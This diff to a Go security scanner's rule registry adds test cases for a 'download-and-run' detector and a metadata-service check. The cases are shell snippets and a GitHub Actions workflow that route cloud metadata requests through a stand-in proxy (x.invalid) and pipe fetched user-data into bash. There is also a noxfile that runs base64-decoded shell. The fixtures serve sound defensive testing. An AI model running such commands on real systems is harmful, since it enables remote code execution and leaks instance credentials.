@@ -187,6 +187,10 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// The runner's own machine answers what it serves; a proxy set in
+		// the script sends the request, and takes the answer, elsewhere.
+		{"x.sh", "export http_proxy=http://x.invalid:3128\ncurl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 3, false},
+		{"x.sh", "curl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 0, true},
 		// A unit's and a crontab's commands are shell; the usual ones run
 		// the installed program.
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
@@ -1350,6 +1354,7 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
 			// What the instance's own metadata service answers did not come over the network.
 			{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          E=$(curl -sS http://169.254.169.254/latest/meta-data/tags/instance/env)\n          echo \"ENVIRONMENT=$E\" >> \"$GITHUB_ENV\"", 8, true},
+			{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          export HTTPS_PROXY=http://x.invalid:3128 HTTP_PROXY=http://x.invalid:3128\n          E=$(curl -sS http://169.254.169.254/latest/meta-data/tags/instance/env)\n          echo \"ENVIRONMENT=$E\" >> \"$GITHUB_ENV\"", 9, false},
 		}},
 	{"gha-path-shadow", KindExecute, High, "puts a directory of the checkout first on PATH before a step that holds a secret",
 		"a later step that calls git, gh or node by name, with a secret or the token in its env, then runs the change's file of that name instead", []Case{
